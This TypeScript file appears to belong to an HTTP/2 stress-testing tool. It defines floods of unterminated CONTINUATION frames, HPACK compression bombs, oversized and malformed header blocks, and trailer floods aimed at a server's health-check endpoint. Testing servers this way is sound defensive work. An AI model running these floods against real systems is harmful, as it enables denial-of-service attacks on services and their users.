import { randomBytes } from "node:crypto";
import type { Attack } from "../attack.js";
import type { AttackClass } from "../attack-class.js";
import { OPENING } from "../raw/connection.js";
import {
  block,
  data,
  END_HEADERS,
  END_STREAM,
  type Field,
  frame,
  FrameType,
  HEADER_TABLE_SIZE,
  headers,
  indexed,
  intoTable,
  literal,
  MAX_FRAME_BYTES,
  repeated,
  reset,
  settings,
  tableSize,
} from "../raw/frames.js";
import { CHECK, CHECK_PATH, EMPTY_MESSAGE, HEALTH_CHECK_PATH, requestBlock, requestFields } from "../raw/requests.js";

const CONNECTIONS = 8;
const MAX_OPEN_CALLS = 500;
const NEWEST = 62;
const COMPLETE = END_HEADERS | END_STREAM;

/** A header block that goes on and on. */
function continuations(payload: Buffer, count: number) {
  const begin = requestBlock(CHECK_PATH);
  return (attack: Attack) =>
    attack.flood({ connections: CONNECTIONS }, (connection) => {
      const isFirst = connection.nextStream === 1;
      const stream = isFirst ? connection.takeStream() : 1;
      const more = repeated(count, () => frame(FrameType.Continuation, 0, stream, payload));
      return isFirst ? Buffer.concat([headers(stream, begin, 0), more]) : more;
    });
}

/** Complete header blocks, each on a stream of its own, at most so many of them unanswered. */
function blocks(
  make: (index: number) => Buffer,
  {
    flags = COMPLETE,
    isReset = false,
    aWrite = 20,
    opening = OPENING,
  }: { readonly flags?: number; readonly isReset?: boolean; readonly aWrite?: number; readonly opening?: Buffer } = {},
) {
  return (attack: Attack) => {
    let index = 0;
    return attack.flood({ connections: CONNECTIONS, opening }, (connection) => {
      if (!isReset && connection.openCalls > MAX_OPEN_CALLS) return undefined;
      return repeated(aWrite, () => {
        const stream = connection.takeStream();
        const complete = inFrames(stream, make(index++), flags);
        return isReset ? Buffer.concat([complete, reset(stream)]) : complete;
      });
    });
  };
}

function inFrames(stream: number, bytes: Buffer, flags: number): Buffer {
  if (bytes.length <= MAX_FRAME_BYTES) return headers(stream, bytes, flags);
  const parts = [headers(stream, bytes.subarray(0, MAX_FRAME_BYTES), flags & ~END_HEADERS)];
  for (let at = MAX_FRAME_BYTES; at < bytes.length; at += MAX_FRAME_BYTES) {
    parts.push(
      frame(
        FrameType.Continuation,
        at + MAX_FRAME_BYTES >= bytes.length ? END_HEADERS : 0,
        stream,
        bytes.subarray(at, at + MAX_FRAME_BYTES),
      ),
    );
  }
  return Buffer.concat(parts);
}

/** 4 kB put into the table once, and then named by one byte as often as a frame has bytes. */
function bomb(): Buffer {
  const start = Buffer.concat([requestBlock(CHECK_PATH), intoTable(["x", "y".repeat(4_000)])]);
  return Buffer.concat([start, Buffer.alloc(MAX_FRAME_BYTES - start.length, indexed(NEWEST))]);
}

/** The table emptied, and filled with what is never named. */
function churnedTable(index: number): Buffer {
  const entries = Array.from({ length: 100 }, (_, each) => intoTable([`x-${index}-${each}`, "v"]));
  return Buffer.concat([tableSize(0), tableSize(4_096), requestBlock(CHECK_PATH), ...entries]);
}

function manyFields(count: number, field: Field): Buffer {
  return Buffer.concat([requestBlock(CHECK_PATH), repeated(count, () => literal(field))]);
}

/** Fields that no server may take, RFC 9113 8.2 and 8.3. */
const BAD_FIELDS: readonly (readonly Field[])[] = [
  [["X-Upper", "a"]],
  [["x-nul", "a\0b"]],
  [["x-line", "a\r\nb: c"]],
  [["x-blank", " a "]],
  [["", "no name"]],
  [["a b", "a blank in the name"]],
  [["connection", "close"]],
  [["transfer-encoding", "chunked"]],
  [["te", "gzip"]],
  [[":path", "/again"]],
  [[":unknown", "a"]],
  [["content-length", "-1"]],
  [
    ["content-length", "1"],
    ["content-length", "2"],
  ],
];

const BAD_PATHS: readonly Field[] = [
  [":authority", "%"],
  [":authority", "a b"],
  [":authority", "[::1"],
  [":authority", "user@host:99999"],
  [":path", ""],
  [":path", "*"],
  [":path", "//"],
  [":path", "http://[/"],
  [":path", "/%00%zz"],
  [":path", `/${"a/../".repeat(1_000)}`],
  [":path", "/\u00ff\u0080"],
  [":scheme", "javascript"],
];

const METHODS = ["CONNECT", "HEAD", "OPTIONS", "TRACE", "PRI", "GET", "", "P\u00d6ST"];

/** The fields of a request, one of them in another's place. */
function withField([name, value]: Field): Buffer {
  return block(requestFields(HEALTH_CHECK_PATH).map((field) => (field[0] === name ? [name, value] : field)));
}

function trailers(attack: Attack): Promise<void> {
  const begin = requestBlock(CHECK_PATH);
  const last = repeated(400, (index) => literal([`t-${index}`, "v"]));
  return attack.flood({ connections: CONNECTIONS, hasInnocent: true }, (connection) => {
    if (connection.openCalls > MAX_OPEN_CALLS) return undefined;
    return repeated(20, () => {
      const stream = connection.takeStream();
      return Buffer.concat([headers(stream, begin), data(stream, CHECK), headers(stream, last, COMPLETE)]);
    });
  });
}

/** A header before the pseudo-headers, and the connection is gone: some 400 of them aborted Node 20. */
function malformedAndClose(attack: Attack): Promise<void> {
  const bytes = headers(1, Buffer.concat([literal(["x", "y".repeat(10)]), requestBlock(HEALTH_CHECK_PATH)]));
  return attack.eachUntilOver(4, async () => {
    const connection = attack.open();
    if (!(await connection.connected())) return;
    await connection.write(bytes);
    connection.socket.destroy();
  });
}

export const HEADER_BLOCKS: readonly AttackClass[] = [
  {
    name: "continuation",
    title: "CONTINUATION without an end, 1 kB each",
    run: continuations(
      repeated(100, () => literal(["x-xxxx", "v"])),
      50,
    ),
  },
  {
    name: "continuation-empty",
    title: "CONTINUATION without an end, empty",
    run: continuations(Buffer.alloc(0), 1_000),
  },
  {
    name: "continuation-large",
    title: "CONTINUATION without an end, 16 kB each",
    run: continuations(Buffer.concat([literal(["x", "v".repeat(16_000)])]), 16),
  },
  { name: "empty-headers", title: "HEADERS without a field", run: blocks(() => Buffer.alloc(0), { aWrite: 100 }) },
  { name: "hpack-bomb", title: "HPACK bomb: 4 kB named 12,000 times a block", run: blocks(bomb, { aWrite: 4 }) },
  { name: "hpack-bomb-reset", title: "HPACK bombs, each reset", run: blocks(bomb, { aWrite: 4, isReset: true }) },
  { name: "hpack-churn", title: "HPACK: the table emptied and filled in each block", run: blocks(churnedTable) },
  {
    name: "hpack-huge-table",
    title: "HPACK: the client allows a table of 4 GB",
    run: blocks((index) => requestBlock(CHECK_PATH, { more: [["x-request-id", String(index)]] }), {
      opening: Buffer.concat([settings([HEADER_TABLE_SIZE, 0xffff_ffff]), OPENING]),
      aWrite: 100,
    }),
  },
  { name: "hpack-garbage", title: "HPACK: random bytes", run: blocks(() => randomBytes(64)) },
  {
    name: "header-list",
    title: "Header lists of 60 kB, above the limit",
    run: blocks(() => manyFields(15, ["x", "v".repeat(4_000)]), { aWrite: 4 }),
  },
  {
    name: "small-headers",
    title: "Thousands of small headers a block",
    run: blocks(() => manyFields(3_000, ["a", "b"])),
  },
  {
    name: "cookie-crumbs",
    title: "Cookies in 400 pieces a request",
    run: blocks(() => manyFields(400, ["cookie", "a=b"])),
  },
  { name: "malformed-close", title: "A malformed header block, then close", run: malformedAndClose },
  {
    name: "bad-fields",
    title: "Upper case, NUL, line ends, blanks, connection headers, wrong lengths",
    run: blocks((index) => requestBlock(HEALTH_CHECK_PATH, { more: BAD_FIELDS[index % BAD_FIELDS.length]! })),
  },
  {
    name: "bad-paths",
    title: "Paths and authorities that do not parse",
    run: blocks((index) => withField(BAD_PATHS[index % BAD_PATHS.length]!)),
  },
  {
    name: "methods",
    title: "CONNECT, HEAD, TRACE and methods that there are not",
    run: blocks((index) => withField([":method", METHODS[index % METHODS.length]!])),
  },
  { name: "trailers", title: "Trailers of 400 fields", run: trailers },
  { name: "unfinished-messages", title: "Calls that end without, or within, their message", run: unfinishedMessages },
];

function unfinishedMessages(attack: Attack): Promise<void> {
  const begin = requestBlock(CHECK_PATH);
  return attack.flood({ connections: CONNECTIONS, hasInnocent: true }, (connection) => {
    if (connection.openCalls > MAX_OPEN_CALLS) return undefined;
    return repeated(100, (index) => {
      const stream = connection.takeStream();
      return Buffer.concat([
        headers(stream, begin),
        data(stream, index % 2 === 0 ? CHECK.subarray(0, 7) : EMPTY_MESSAGE, END_STREAM),
      ]);
    });
  });
}
